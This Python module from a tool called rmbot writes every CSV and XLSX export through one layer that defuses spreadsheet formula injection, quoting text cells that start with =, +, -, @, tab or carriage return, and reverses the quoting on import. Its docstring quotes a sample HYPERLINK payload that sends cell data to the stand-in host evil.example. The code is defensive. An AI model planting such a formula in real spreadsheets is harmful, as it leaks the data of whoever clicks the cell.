"""The one cell-writing layer: every file rmbot writes for a spreadsheet goes through `open_sheet`
(or `CsvSheet` for a stream), so no export, present or future, can write a live formula.

A spreadsheet evaluates a text cell that starts with = + - @ (and, after a leading tab or carriage
return, what follows), so a customer named `=HYPERLINK("http://evil.example/?x="&A1,"点我")`
becomes a link that leaks the sheet when an RM clicks it (CSV injection, OWASP). Following
OWASP's guidance, such a text cell is written with a single quote in front: Excel, WPS and
LibreOffice then show it as text. A text cell that already starts with a quote gets one more, so
the rule is reversible: `restore` (called once, where the import parses cells: rowparse.Layout)
takes exactly one quote off a cell that starts with a quote followed by a trigger or a quote,
and `rmbot export` → `rmbot import` gives back the original values. A core-system file whose
cell starts with `'=` is read as Excel means it, `=` onwards.

Only text is neutralised: numbers (money as 元, counts) stay numbers, so a negative amount is
still `-12.50` in a CSV and a number cell in an XLSX. XLSX cells are written with an explicit
string type (inline strings), never as formula cells, whatever the text.
"""

from __future__ import annotations

import csv
import io
import sys
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import IO, Any, Protocol

TRIGGERS = frozenset("=+-@\t\r")
"""First characters that make a spreadsheet evaluate a cell (OWASP CSV injection)."""
QUOTE = "'"
XLSX_SUFFIXES = (".xlsx", ".xlsm")
FLOAT_EXACT = 10**13
"""Below this, a two-decimal amount survives float's shortest repr, so XLSX stores it as a number."""


def neutralise(text: str) -> str:
    """`text` as a cell no spreadsheet evaluates; `restore` undoes it exactly."""
    if text and (text[0] in TRIGGERS or text[0] == QUOTE):
        return QUOTE + text
    return text


def restore(cell: Any) -> Any:
    """The value `neutralise` was given: one quote off `'=…`, `'+…`, `''…`; anything else as is."""
    if cell.__class__ is str and len(cell) > 1 and cell[0] == QUOTE and (cell[1] in TRIGGERS or cell[1] == QUOTE):
        return cell[1:]
    return cell


def text_of(value: Any) -> Any:
    """A value as a CSV writes it: text neutralised, numbers as they are, dates in ISO form."""
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralise(value)
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, datetime):
        text = f"{value:%Y-%m-%d %H:%M:%S}"
        return f"{text}.{value.microsecond:06d}" if value.microsecond else text
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, (int, Decimal, float)):
        return value
    return neutralise(str(value))


class Sheet(Protocol):
    def writerow(self, row: Sequence[Any]) -> None: ...


class CsvSheet:
    """CSV rows on an open text stream, every cell through `text_of`."""

    def __init__(self, stream: IO[str]) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Sequence[Any]) -> None:
        self._writer.writerow([text_of(v) for v in row])


class XlsxSheet:
    """An XLSX worksheet in openpyxl's write-only mode: text as inline strings (never formulas),
    money as number cells, dates as date cells."""

    def __init__(self, title: str) -> None:
        from openpyxl import Workbook  # type: ignore[import-untyped]
        from openpyxl.cell import WriteOnlyCell  # type: ignore[import-untyped]

        self.book = Workbook(write_only=True)
        self.sheet = self.book.create_sheet(title[:31] or "Sheet1")
        self._text_cell = WriteOnlyCell

    def _cell(self, value: Any) -> Any:
        if value is None:
            return None
        if isinstance(value, bool):
            value = "true" if value else "false"
        if isinstance(value, Decimal) and abs(value) < FLOAT_EXACT:
            return float(value)
        if isinstance(value, (int, float, Decimal, date)):
            return value
        cell = self._text_cell(self.sheet, value=neutralise(str(value)))
        cell.data_type = "s"  # openpyxl makes a text starting with = a formula: a string, always
        return cell

    def writerow(self, row: Sequence[Any]) -> None:
        self.sheet.append([self._cell(v) for v in row])

    def save(self, out: Path) -> None:
        self.book.save(out)


def is_xlsx(out: Path | None) -> bool:
    return out is not None and out.suffix.lower() in XLSX_SUFFIXES


def is_stdout(out: Path | None) -> bool:
    return out is None or str(out) == "-"


@contextmanager
def open_sheet(out: Path | None, *, title: str, encoding: str = "utf-8") -> Iterator[Sheet]:
    """A sheet writing to `out`: .xlsx/.xlsm as XLSX, anything else as CSV in `encoding`; None or
    `-` is CSV on standard output (without a BOM, which only editors want)."""
    if is_stdout(out):
        codec = "utf-8" if encoding.lower().replace("_", "-") == "utf-8-sig" else encoding
        raw = getattr(sys.stdout, "buffer", None)
        if raw is None:  # a text-only stdout (tests redirecting it): write text
            yield CsvSheet(sys.stdout)
            sys.stdout.flush()
            return
        sys.stdout.flush()
        stream = io.TextIOWrapper(raw, encoding=codec, newline="", write_through=True)
        try:
            yield CsvSheet(stream)
        finally:
            stream.detach()
        return
    assert out is not None
    out.parent.mkdir(parents=True, exist_ok=True)
    if is_xlsx(out):
        sheet = XlsxSheet(title)
        yield sheet
        sheet.save(out)
        return
    with out.open("w", encoding=encoding, newline="") as fh:
        yield CsvSheet(fh)
